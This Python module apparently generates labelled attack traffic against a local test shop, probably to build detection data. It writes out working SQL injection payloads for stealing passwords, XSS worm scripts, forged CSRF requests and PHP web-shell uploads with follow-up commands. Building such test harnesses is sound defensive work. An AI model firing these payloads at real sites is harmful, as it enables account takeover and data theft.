"""Attacks on the test shop. Bounded: at most three requests a second, sleeps of at most some three seconds, loopback alone."""
import json
import re
from urllib.parse import quote, urlencode

from users import upload

EVIL = ["https://evil.example", "http://prizes.example:8080", "null"]


def spaced(b, text):
    """The same injection in one of the spellings that attackers use."""
    kind = b.rand.randrange(4)
    if kind == 1:
        return text.replace("-- ", "#").replace(" ", "/**/")
    if kind == 2:
        return re.sub(r"(?i)union|select|from", lambda word: "".join(c.upper() if i % 2 else c.lower() for i, c in enumerate(word[0])), text)
    return text.replace(" ", "\t") if kind == 3 else text


def sqli_union(b):
    cols = ["id, CONCAT(login, 0x3a, pass), role, 4", "1, pass, login, 2", "1, table_name, table_schema, 1"]
    pick = b.rand.choice(cols)
    src = "information_schema.tables" if "table_name" in pick else "customers"
    if b.rand.random() < 0.5:
        text = spaced(b, f"zz%') UNION SELECT {pick} FROM {src} -- ")
        b.send("GET", "/search?q=" + quote(text), label=("sqli", "union-exfiltration", 0))
    else:
        text = spaced(b, f"-1 union all select 1, {b.rand.choice(['login', 'email'])}, pass, 4, 5 from customers limit {b.rand.randrange(9)},1")
        b.send("GET", "/product/" + quote(text, safe=""), label=("sqli", "union-exfiltration", 0))


def sqli_blind(b):
    n = b.rand.randrange(1, 9)
    test = b.rand.choice([f"(select ascii(substr(pass,{n},1)) from customers limit 1)>{b.rand.randrange(48, 100)}", f"if(length(user())>{n},sleep(0.04),0)"])
    where = b.rand.randrange(4)
    if where == 0:
        b.send("GET", "/search?" + urlencode({"q": "rope", "sort": f"if({test},title,price)"}), label=("sqli", "blind-injection", 0))
    elif where == 1:
        b.send("GET", "/product/" + quote(f"3 and {test}", safe=""), label=("sqli", "blind-injection", 0))
    elif where == 2:
        b.send("GET", "/search?" + urlencode({"q": "bell", "cat": f"1 or {test}"}), label=("sqli", "blind-injection", 0))
    else:
        b.send("GET", "/api/stock?" + urlencode({"id": f"3 and {test}"}), kind="empty")  # prepared and bound as a number: harmless, unlabelled
        b.send("GET", "/search?" + urlencode({"q": f"bell%' and {test} and '1%'='1"}), label=("sqli", "blind-injection", 0))


def sqli_login(b):
    name = b.rand.choice(["user00' -- ", "user00'#", "' or 1=1 limit 1 -- ", "x' or role='admin' -- ", "' || 1 -- ", "user00'/*"])
    form = {"login": name, "pass": "x"}
    if name.endswith("/*"):
        form = {"login": "user01' or '", "pass": "') or ('1'='1"}
    b.cookies.clear()
    b.send("GET", "/login")
    b.send("POST", "/login", form=form, label=("sqli", "login-bypass", 0))


def sqli_update(b):
    fields = b.rand.sample([("role", "admin"), ("phone", "0"), ("city", "nowhere"), ("address", "none"), ("email", "me@evil.example"), ("fullname", "Owned")], b.rand.randint(1, 6))
    tail = b.rand.choice([" where id=5 -- ", " where login='user07' -- ", " -- "])
    if b.rand.random() < 0.6:
        text = "x', " + ", ".join(f"{k}='{v}'" for k, v in fields) + tail
        b.send("POST", "/profile", form={"fullname": "Sam", "bio": text}, label=("sqli", "update-injection", len(fields)))
    else:
        some = b.rand.sample(["ship_name", "street", "city", "phone"], b.rand.randint(1, 4))
        text = "x', " + ", ".join(f"{k}=(select pass from customers where id={i + 1})" for i, k in enumerate(some)) + " where customer=9 -- "
        where = b.rand.choice(["note", "zip"])
        form = {"name": "Sam", "street": "s", "city": "c", "zip": "1", "phone": "2", "note": "n"} | {where: text}
        b.send("POST", "/checkout", form=form, label=("sqli", "update-injection", len(some)))


def sqli_json(b):
    if b.rand.random() < 0.6:
        body = b.rand.choice([{"price": {"max": "0 union select id, login, pass from customers -- "}, "starts": ""}, {"price": {"max": 9}, "starts": "zz' union select 1,pass,login from customers -- "},
                              {"price": {"max": "9 or sleep(0.02)"}, "starts": "b"}])
        text = json.dumps(body)
        if b.rand.random() < 0.4:
            text = "".join(f"\\u{ord(c):04x}" if c in "'unio" and i > 24 else c for i, c in enumerate(text)) if "starts\": \"zz" in text else text
        b.send("POST", "/api/filter", kind="empty", json=text, label=("sqli", "json-injection", 0))
    else:
        body = {"items": [{"id": "3, (select pass from customers limit 1)) -- ", "remark": "a"}]} if b.rand.random() < 0.5 else {"items": [{"id": 3, "remark": "a'), (9, 9, (select pass from customers limit 1)) -- "}]}
        b.send("POST", "/api/wish", kind="empty", json=json.dumps(body), label=("sqli", "json-injection", 1))


WORM = "fetch('/profile',{method:'POST',body:new URLSearchParams('%s')})"
GETS = "new Image().src='/cart?item=%d&qty=9'"


def script(b):
    pairs = b.rand.sample(["fullname=owned", "city=nowhere", "phone=0", "email=a@evil.example", "address=none"], b.rand.randint(1, 5))
    return WORM % "&".join(pairs) if b.rand.random() < 0.6 else GETS % b.rand.randrange(1, 60)


def xss_stored(b):
    code = script(b)
    body = b.rand.choice([f"nice <script>{code}</script>", f"<img src=x onerror=\"{code}\">", f"<svg/onload=\"{code}\">", f"<ScRiPt >{code}</sCrIpT>", f"<details open ontoggle=\"{code}\">"])
    form = {"stars": 5, "headline": "Great", "body": body, "link": ""}
    if b.rand.random() < 0.25:
        form = {"stars": 5, "headline": "Great", "body": "good one", "link": "javascript:" + code.replace("'", "`")}
    b.send("POST", f"/product/{b.rand.randint(1, 12)}/review", form=form, label=("xss", "stored-plant", 0))
    b.think(1.5, 2.5)


def xss_reflected(b):
    code = script(b).replace("'", "`")  # an apostrophe would break the statement that the same parameter is put into
    text = b.rand.choice([f"<script>{code}</script>", f"<img src=x onerror=\"{code}\">", f"<svg onload=\"{code}\">", f"<iframe srcdoc=\"<script>{code}</script>\">", "<body onpageshow=alert(1)>"])
    path = "/search?q=" + (quote(text) if b.rand.random() < 0.7 else quote(quote(text)).replace("%25", "%") + "&cat=")
    status, answer = b.send("GET", path, label=("xss", "reflected", 0), forged=b.rand.choice(EVIL[:2]))
    if b.think(0.05, 0.2):
        b.run_scripts(answer, "reflected-fire")


def csrf(b):
    site = b.rand.choice(EVIL)
    kind = b.rand.randrange(5)
    if kind == 0:
        b.send("GET", f"/cart?item={b.rand.randrange(1, 60)}&qty=20", kind="image", forged=site, label=("csrf", "forged-get", 1))
    elif kind == 1:
        b.send("POST", "/cart", form={"item": 7, "qty": 30}, forged=site, label=("csrf", "forged-post", 1))
    elif kind == 2:
        b.send("POST", "/checkout", form={"name": "Eve", "street": "1 Far Away", "city": "Elsewhere", "zip": "1", "phone": "2", "note": "n"}, forged=site, label=("csrf", "forged-post", 6))
    else:
        fields = b.rand.sample([("email", "eve@evil.example"), ("address", "1 Far Away"), ("phone", "1"), ("city", "Elsewhere")], b.rand.randint(1, 4))
        b.send("POST", "/profile", form=dict(fields), forged=site, label=("csrf", "forged-post", len(fields)))


def web_shell(b):
    name = f"pic{b.rand.randrange(999)}.php"
    code = b.rand.choice([b"<?php system($_GET['c']);", b"GIF89a<?php echo shell_exec($_POST['c'] ?? $_GET['c']); ?>", b"<?=`{$_REQUEST['c']}`?>"])
    upload(b, name, code, "image/png", label=("web-shell", "upload", 0))
    for command in b.rand.sample(["id", "ls", "whoami", "uname -s", "date"], 3):
        if not b.think(0.6, 1.6):
            return
        if b.rand.random() < 0.3 and b"POST" in code:
            b.send("POST", f"/uploads/{name}", form={"c": command}, label=("web-shell", "command", 0))
        else:
            b.send("GET", f"/uploads/{name}?c=" + quote(command), label=("web-shell", "command", 0))


ATTACKS = {"union": sqli_union, "blind": sqli_blind, "bypass": sqli_login, "update": sqli_update, "json": sqli_json,
           "xss-stored": xss_stored, "xss-reflected": xss_reflected, "csrf": csrf, "web-shell": web_shell}


def attack(b, name, number):
    """Logs in as a customer (the victim, where the attack needs one) and repeats one kind of attack until the episode ends."""
    b.think(2.5, 3.5)
    b.login(f"user{number:02d}", f"pw{number:02d}")
    while b.think(0.9, 2.4):
        ATTACKS[name](b)
        if b.rand.random() < 0.4 and b.think(0.2, 0.6):
            b.send("GET", "/product/2")
